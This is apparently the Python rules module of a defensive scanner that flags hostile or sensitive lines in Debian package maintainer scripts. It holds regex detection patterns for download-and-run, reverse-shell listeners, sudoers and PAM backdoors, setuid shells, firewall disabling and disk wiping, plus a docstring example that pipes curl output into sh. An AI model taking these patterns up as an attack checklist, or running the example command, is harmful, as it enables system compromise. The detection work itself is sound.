"""The per-line rules over maintainer scripts: :data:`RULES`. Pure.

Each rule takes one :class:`~aegis.analyze.evidence.script_text.Line` and returns a
severity or None; the scanner in :mod:`aegis.analyze.evidence.scripts` applies them
in order and adds what spans lines (running a file or variable an earlier line
downloaded or decoded). The table lives apart from the scanner because it is the
part that grows: a new rule is one function and one row here.

Rules (stable ids; severity hostile > sensitive):

================================  =========  ==============================================
id                                severity   what
================================  =========  ==============================================
script.download-exec              hostile    fetched content executed (curl|sh, sh -c "$(wget)",
                                             download then run, URL piped to a shell, a perl/
                                             ruby/python one-liner fetching and eval'ing)
script.decoded-exec               hostile    decoded text that is run (base64/xxd/uudecode/openssl
                                             decode piped to a shell or eval'd, tr|sh, or a decoded
                                             file or variable run later), printf-escape runs
                                             spelling text, python/perl -c decode/exec
                                  sensitive  decoding into a file or variable that is not run
script.dynamic-eval               sensitive  eval of a variable or command output (besides
                                             ``eval $(apt-config shell ...)``-style idioms)
script.network                    sensitive  curl/wget/nc fetches without visible execution
script.sudoers                    hostile    text written into /etc/sudoers[.d] (>, >>, tee), any
                                             NOPASSWD grant
                                  sensitive  file management (cp, mv, chmod), other mentions
script.pam                        hostile    pam_permit/pam_exec, ``sufficient`` lines written in
                                  sensitive  writes to /etc/pam.d or /etc/security, pam-auth-update
script.sshd                       hostile    text written into sshd_config[.d]; PermitRootLogin or
                                             PermitEmptyPasswords yes aimed at sshd_config
                                  sensitive  other edits (openssh's own candidate file) and mentions
script.authorized-keys            hostile    writes an authorized_keys file (sensitive: mention)
script.ld-preload                 hostile    writes /etc/ld.so.preload, LD_PRELOAD= exports
script.apt-config                 hostile    apt hook (``Invoke``) written from a script
                                  sensitive  other writes under /etc/apt
script.cron                       sensitive  crontab, writes to /etc/cron*, /var/spool/cron
script.systemd-unit               sensitive  writes to unit directories, systemctl enable|link
script.user-create                sensitive  useradd/adduser/usermod/groupadd, writes to /etc/passwd
                                  hostile    uid 0 (-o, -u 0, a second uid-0 passwd line), adding
                                             to sudo/wheel/root/adm, chpasswd, writes to /etc/shadow
script.setuid                     sensitive  chmod u+s / 4755, dpkg-statoverride with setuid
                                  hostile    setuid on a shell or interpreter
script.disable-security           hostile    ufw disable, iptables -F / policy ACCEPT, nft flush,
                                             setenforce 0, AppArmor teardown, auditctl -e 0, ASLR
                                             off, history wiping, stopping/disabling firewall,
                                             audit, AppArmor, AV or log units of *another*
                                             package
                                  sensitive  systemctl stop|disable|mask of another package's unit
                                             (a package's own units are its own business)
script.listener                   hostile    nc -l / -e, socat listen/exec, /dev/tcp, bash -i,
                                             scripted sockets
script.destructive                hostile    recursive delete of /, /* or a top-level system
                                             directory (also under ${DPKG_ROOT}), dd/shred to a
                                             disk device, mkfs/wipefs/sgdisk/blkdiscard of one,
                                             chmod -R / chown -R of / or a system directory
script.binary                     hostile    a script that is not text (cannot be reviewed)
script.unparsed                   sensitive  a script bashlex cannot parse as shell (read as
                                             text by every rule above; emitted by the scanner)
================================  =========  ==============================================

Example:
    >>> line = Line(1, "curl -s http://e.invalid/i | sh", "curl -s http://e.invalid/i | sh")
    >>> _rule_download_exec(line)
    'hostile'
"""

from __future__ import annotations

import re
from collections.abc import Callable

from aegis.analyze.evidence.script_text import (
    FETCH,
    HOSTILE,
    INTERP,
    SENSITIVE,
    SHELL,
    Line,
    any_of,
    commands,
    download_target,
    path_rule,
    writes,
)

_download_exec = any_of(
    rf"{FETCH}[^|]*\|\s*(?:sudo\s+|env\s+(?:\S+=\S*\s+)*)?(?:{SHELL}|{INTERP})",
    rf"\b{SHELL}\s+(?:-\w+\s+)*(?:<\(|\$\(|`)\s*{FETCH}",
    rf"(?:\beval|\bsource|(?:^|[;&|]\s*)\.)\s+(?:<\(|\$\(|`)\s*{FETCH}",
    rf"(?:https?|ftp)://\S+.*\|\s*(?:sudo\s+)?(?:{SHELL}|{INTERP})",
    # An interpreter one-liner that fetches and runs what it fetched (perl LWP + eval,
    # ruby open-uri + eval, python urlopen + exec).
    rf"{INTERP}(?=.*\s-\w*[ceE]\w*\s)"
    rf"(?=.*(?:LWP|HTTP::Tiny|IO::Socket|urlopen|urllib|open-uri|Net::HTTP|requests\.get"
    rf"|http\.client|URI\.open))"
    rf"(?=.*(?:\beval\b|\bexec\b|\bsystem\b|\binstance_eval\b))",
)


_RUNS = re.compile(rf"(?:chmod\s+\S*x|{SHELL}\s+\S|\./|/tmp/|/var/tmp/|/dev/shm/)")


def _fetch_then_run(norm: str) -> bool:
    """A fetch writing a file, then a later command on the line that runs something."""
    fetched = False
    for words in commands(norm):
        if fetched and _RUNS.match(" ".join(words)):
            return True
        fetched = fetched or download_target(words) is not None
    return False


def _rule_download_exec(line: Line) -> str | None:
    if _download_exec(line.raw, line.norm) or _fetch_then_run(line.norm):
        return HOSTILE
    return None


# Escape runs that decode to printable ASCII spell hidden words; binary magic
# (``\\xfe\\xed\\xfe\\xed`` in ca-certificates-java) is not obfuscation.
_PRINTABLE_ESC = r"(?:\\x(?:[2-6][0-9A-Fa-f]|7[0-9A-Ea-e])|\\(?:04[0-7]|0[5-7][0-7]|1[0-7][0-7]))"
_decoded_raw = any_of(rf"{_PRINTABLE_ESC}{{4,}}", on="raw")
_decode_cmd = any_of(
    r"\bbase64\s+(?:-\w*d\w*|--decode)\b",
    r"\bbase32\s+(?:-\w*d\w*|--decode)\b",
    r"\bxxd\b.*\s-\w*r",
    r"\bopenssl\s+(?:enc\s+)?-?(?:base64|a)\b.*\s-d\b",
    # ``openssl enc -d -base64``: the decode flag may come first.
    r"\bopenssl\s+(?:enc|base64)\b(?=[^|;&]*\s-d\b)(?=[^|;&]*\s-?(?:base64|a)\b)",
    r"\b(?:uudecode|basenc)\b",
)
_runs_output = any_of(
    rf"\|\s*(?:sudo\s+)?(?:{SHELL}|{INTERP}|xargs\b|source\b)",
    r"\beval\b",
    rf"\b(?:{SHELL}|{INTERP})\s+(?:-\w+\s+)*(?:<\(|\$\(|`)",
    r"(?:\bsource|(?:^|[;&|]\s*)\.)\s+(?:<\(|/dev/stdin)",
)
_decoded_norm = any_of(
    r"\beval\b.*(?:base64|xxd|\brev\b|\btr\s)",
    rf"\brev\b.*\|\s*{SHELL}",
    # ROT13 and other tr ciphers piped into a shell.
    rf"\btr\s.*\|\s*(?:sudo\s+)?{SHELL}",
    rf"{INTERP}\s+-\w*[ceE]\w*\s+.*(?:b64decode|decode\(|exec\(|eval\(|unpack|pack\(|chr\()",
)


def _rule_decoded_exec(line: Line) -> str | None:
    if _decoded_raw(line.raw, line.norm) or _decoded_norm(line.raw, line.norm):
        return HOSTILE
    if _decode_cmd(line.raw, line.norm):
        # Decoding into a file or variable is only sensitive (apache2's preinst
        # unpacks an embedded tarball); running what was decoded is hostile, here or
        # on a later line (the scanner tracks decoded files and variables).
        return HOSTILE if _runs_output(line.raw, line.norm) else SENSITIVE
    return None


_EVAL_IDIOMS = re.compile(
    r"\beval\s+\$\(\s*(?:apt-config\s+shell|dpkg-architecture|dpkg-buildflags|locale\b)"
)


def _rule_dynamic_eval(line: Line) -> str | None:
    if not re.search(r"(?:^|[;&|({]\s*|\bthen\s+|\bdo\s+)eval\s+\S", line.norm):
        return None
    return None if _EVAL_IDIOMS.search(line.norm) else SENSITIVE


def _rule_network(line: Line) -> str | None:
    if re.search(rf"{FETCH}|\b(?:nc|ncat|netcat|socat|telnet)\s", line.norm):
        return SENSITIVE
    return None


def _rule_sudoers(line: Line) -> str | None:
    if re.search(r"\bNOPASSWD\b", line.norm):
        return HOSTILE
    return path_rule(r"/etc/sudoers", HOSTILE, SENSITIVE, manage=SENSITIVE)(line)


def _rule_pam(line: Line) -> str | None:
    if re.search(r"\bpam_(?:permit|exec)\.so\b", line.norm):
        return HOSTILE
    path = r"/etc/pam\.d\b|/etc/pam\.conf\b|/etc/security/"
    if re.search(path, line.norm) and writes(line.norm, path) and "sufficient" in line.norm:
        return HOSTILE
    if re.search(path, line.norm) or re.search(r"\bpam-auth-update\b|\bpam_\w+\.so\b", line.norm):
        return SENSITIVE
    return None


def _rule_sshd(line: Line) -> str | None:
    path = r"/etc/ssh/sshd_config"
    weakens = re.search(r"\bPermitRootLogin\s+yes\b|\bPermitEmptyPasswords\s+yes\b", line.norm)
    if weakens and re.search(path, line.norm):
        return HOSTILE
    found = path_rule(path, HOSTILE, SENSITIVE, manage=SENSITIVE)(line)
    if found is None and weakens:
        # openssh-server's own postinst edits a candidate file it then merges with ucf.
        return SENSITIVE
    return found


_rule_authorized_keys = path_rule(r"authorized_keys2?\b", HOSTILE, SENSITIVE)


def _rule_ld_preload(line: Line) -> str | None:
    if re.search(r"\bLD_PRELOAD=\S", line.norm):
        return HOSTILE
    return path_rule(r"/etc/ld\.so\.preload", HOSTILE, SENSITIVE)(line)


def _rule_apt_config(line: Line) -> str | None:
    path = r"/etc/apt/(?:apt\.conf|sources\.list|trusted\.gpg|preferences|keyrings)"
    if not re.search(path, line.norm):
        return None
    if not writes(line.norm, path):
        return None
    return (
        HOSTILE
        if re.search(r"Invoke|Pre-Install-Pkgs|AllowInsecure|AllowUnauth", line.norm)
        else SENSITIVE
    )


def _sensitive_path_or_command(path: str, command: str) -> Callable[[Line], str | None]:
    """Sensitive when the line touches ``path`` or runs ``command`` (both regexes)."""
    touches = path_rule(path, SENSITIVE, None)

    def check(line: Line) -> str | None:
        found = touches(line)
        if found:
            return found
        if re.search(command, line.norm):
            return SENSITIVE
        return None

    return check


_rule_cron = _sensitive_path_or_command(
    r"/etc/cron(?:tab|\.d|\.hourly|\.daily|\.weekly|\.monthly)|/var/spool/cron",
    r"(?:^|[;&|]\s*)(?:sudo\s+)?crontab\s+(?!-l\b)\S",
)
_rule_systemd_unit = _sensitive_path_or_command(
    r"(?:/etc|/lib|/usr/lib|/run)/systemd/(?:system|user)\b",
    r"\bsystemctl\s+(?:--\S+\s+)*(?:enable|link|edit|set-property)\b",
)


_USER_CMD = r"(?<![\w./-])(?:useradd|adduser|usermod|groupadd|addgroup|newusers|gpasswd)\s+[-$\w]"
_USER_HOSTILE = any_of(
    r"\b(?:useradd|usermod)\b.*(?:\s-u\s*0\b|--uid\s+0\b|\s-o\b|--non-unique)",
    r"\badduser\b.*--uid\s+0\b",
    r"\b(?:usermod|gpasswd|adduser)\s.*\b(?:sudo|wheel|root|adm|admin)\s*$",
    r"\b(?:useradd|usermod)\b.*\s-a?G\s*\S*\b(?:sudo|wheel|root|adm|admin)\b",
    r"\bchpasswd\b|\bpasswd\s+(?:--stdin|-d|--delete)\b",
    # A passwd line with uid 0 for another name than root: a second root account.
    r"(?<![\w.-])(?!root:)[\w.-]+:[^:\s]*:0:\d*:[^:]*:[^:]*:\S*(?:sh|bash)\b",
)


def _rule_user_create(line: Line) -> str | None:
    if _USER_HOSTILE(line.raw, line.norm):
        return HOSTILE
    if re.search(_USER_CMD, line.norm):
        return SENSITIVE
    if writes(line.norm, r"/etc/g?shadow\b"):
        return HOSTILE
    if writes(line.norm, r"/etc/(?:passwd|group)\b"):
        return SENSITIVE
    return None


_SETUID_MODE = r"(?:0?[2-7][0-7]{3}\b|[ugoa]*[+=][rwxXt]*s)"
DANGEROUS_SUID = re.compile(
    r"(?:ba|da|z|k|c|tc|fi)?sh|python[0-9.]*|perl|ruby|php|node|find|vim?|nano|less|more"
    r"|env|busybox|cp|tee|dd|awk|gawk|nmap|tar"
)
"""Basenames that give a root shell when setuid (a GTFOBins-style short list)."""


def _rule_setuid(line: Line) -> str | None:
    m = re.search(rf"\bchmod\s+(?:-\S+\s+)*{_SETUID_MODE}\s+(\S+)", line.norm)
    if m is None:
        m = re.search(
            rf"\bdpkg-statoverride\b.*--add\s+\S+\s+\S+\s+{_SETUID_MODE}\s+(\S+)", line.norm
        )
    if m is None:
        return None
    target = m.group(1).rstrip(";&|").rsplit("/", 1)[-1]
    return HOSTILE if DANGEROUS_SUID.fullmatch(target) else SENSITIVE


_SECURITY_UNITS = (
    r"ufw|firewalld|nftables|iptables|ip6tables|netfilter-persistent|apparmor|auditd|"
    r"fail2ban|selinux\S*|aide|tripwire|osqueryd?|wazuh\S*|falco\S*|falcon-sensor|clamav\S*|"
    r"rsyslog|syslog-ng|systemd-journald|unattended-upgrades|crowdsec\S*"
)
_disable_hostile = any_of(
    r"\bufw\s+(?:--force\s+)?disable\b",
    r"\bip6?tables(?:-legacy|-nft)?\s+(?:-\S+\s+)*(?:-F|--flush|-X)\b",
    r"\bip6?tables(?:-legacy|-nft)?\s+(?:-\S+\s+)*-P\s+\w+\s+ACCEPT\b",
    r"\bnft\s+flush\s+ruleset\b",
    r"\bsetenforce\s+(?:0|Permissive)\b",
    r"\bSELINUX=(?:disabled|permissive)\b.*/etc/selinux/config",
    r"\baa-(?:teardown|disable|complain)\b|\bapparmor_parser\s+-R\b",
    r"\bauditctl\s+-e\s*0\b|\bauditctl\s+-D\b",
    r"randomize_va_space\s*=?\s*0|echo\s+0\s*>\s*\S*randomize_va_space",
    r"\bunset\s+HISTFILE\b|\bHISTFILE=/dev/null|\bhistory\s+-c\b",
)
_SERVICE_OFF = tuple(
    re.compile(p)
    for p in (
        r"\bsystemctl\s+(?:--?[\w-]+\s+)*(?:stop|disable|mask)\s+(?:--?[\w-]+\s+)*(?P<unit>[\w@.-]+)",
        r"\b(?:service|invoke-rc\.d)\s+(?P<unit>[\w@.-]+)\s+stop\b",
        r"/etc/init\.d/(?P<unit>[\w@.-]+)\s+stop\b",
        r"\bupdate-rc\.d\s+(?:-f\s+)?(?P<unit>[\w@.-]+)\s+disable\b",
    )
)
_SECURITY_UNIT = re.compile(rf"(?:{_SECURITY_UNITS})")


def _own_unit(unit: str, package: str) -> bool:
    base = re.sub(r"(?:@.*)?\.(?:service|socket|timer|path|target)$", "", unit)
    return bool(package) and (
        base == package or base.startswith(package + "-") or package.startswith(base + "-")
    )


def _rule_disable_security(line: Line) -> str | None:
    if _disable_hostile(line.raw, line.norm):
        return HOSTILE
    worst: str | None = None
    for pattern in _SERVICE_OFF:
        for m in pattern.finditer(line.norm):
            unit = m.group("unit")
            if _own_unit(unit, line.package):
                continue  # a package stopping its own service on upgrade or removal
            base = re.sub(r"(?:@.*)?\.(?:service|socket|timer)$", "", unit)
            if _SECURITY_UNIT.fullmatch(base):
                return HOSTILE
            worst = SENSITIVE
    return worst


_listener = any_of(
    r"\b(?:nc|ncat|netcat)\b[^|;]*\s-\w*[lLe]\w*\b",
    r"\bsocat\b.*(?:LISTEN|EXEC:|SYSTEM:|exec:|system:)",
    r"/dev/(?:tcp|udp)/",
    rf"\b{SHELL}\s+-i\b",
    r"\bmkfifo\b.*\b(?:nc|ncat|netcat|telnet)\b",
    rf"{INTERP}\s+-\w*[ceE]\w*\s+.*\bsocket\b",
)


def _rule_listener(line: Line) -> str | None:
    return HOSTILE if _listener(line.raw, line.norm) else None


# --- destructive commands (issue 12 item 9) ------------------------------------------------

# A path that names the root or a whole system directory, optionally under ${DPKG_ROOT}
# (``/etc/foo`` or ``/var/lib/foo`` stays a package's own business: purge removes those).
_SYSTEM_DIRS = (
    "bin|boot|dev|etc|home|lib|lib32|lib64|libx32|opt|proc|root|run|sbin|srv|sys|usr|var"
    "|usr/bin|usr/lib|usr/sbin|usr/share|usr/local|var/lib|var/log|etc/ssh|etc/pam\\.d"
)
_ROOT_PREFIX = r"(?:\$\{?DPKG_ROOT(?::-)?\}?)?"
_SYSTEM_PATH = re.compile(rf"^[\"']?{_ROOT_PREFIX}/+(?:(?:{_SYSTEM_DIRS})/*)?\*?[\"']?$")
_DISK_DEVICE = re.compile(
    r"/dev/(?:sd[a-z]|hd[a-z]|vd[a-z]|xvd[a-z]|nvme\d|mmcblk\d|md\d|dm-\d|mapper/)"
)
_DISK_TOOLS = frozenset({"mkfs", "wipefs", "sgdisk", "sfdisk", "blkdiscard", "parted", "fdisk"})


def _recursive(words: list[str]) -> bool:
    return any(
        w in ("-R", "--recursive")
        or (w.startswith("-") and not w.startswith("--") and "r" in w.lower())
        for w in words[1:]
    )


def _destructive_command(words: list[str]) -> bool:
    while words and words[0] in ("sudo", "nice", "nohup", "command", "exec", "env"):
        words = words[1:]
    if not words:
        return False
    tool = words[0].rsplit("/", 1)[-1]
    operands = [w for w in words[1:] if not w.startswith("-")]
    if tool == "rm" and _recursive(words):
        return any(_SYSTEM_PATH.match(w) for w in operands)
    if tool in ("chmod", "chown", "chgrp") and _recursive(words):
        return any(_SYSTEM_PATH.match(w) for w in operands[1:])
    if tool == "dd":  # reading a disk (if=) is a backup; writing one (of=) wipes it
        return any(w.startswith("of=") and _DISK_DEVICE.search(w) for w in words[1:])
    if tool == "shred":
        return any(_DISK_DEVICE.search(w) for w in operands)
    if tool in _DISK_TOOLS or tool.startswith("mkfs."):
        return any(_DISK_DEVICE.search(w) for w in words[1:])
    return False


def _rule_destructive(line: Line) -> str | None:
    return HOSTILE if any(_destructive_command(w) for w in commands(line.norm)) else None


RULES: tuple[tuple[str, Callable[[Line], str | None]], ...] = (
    ("script.download-exec", _rule_download_exec),
    ("script.decoded-exec", _rule_decoded_exec),
    ("script.dynamic-eval", _rule_dynamic_eval),
    ("script.network", _rule_network),
    ("script.sudoers", _rule_sudoers),
    ("script.pam", _rule_pam),
    ("script.sshd", _rule_sshd),
    ("script.authorized-keys", _rule_authorized_keys),
    ("script.ld-preload", _rule_ld_preload),
    ("script.apt-config", _rule_apt_config),
    ("script.cron", _rule_cron),
    ("script.systemd-unit", _rule_systemd_unit),
    ("script.user-create", _rule_user_create),
    ("script.setuid", _rule_setuid),
    ("script.disable-security", _rule_disable_security),
    ("script.listener", _rule_listener),
    ("script.destructive", _rule_destructive),
)
"""Per-line rules in report order: (stable id, check returning a severity or None)."""
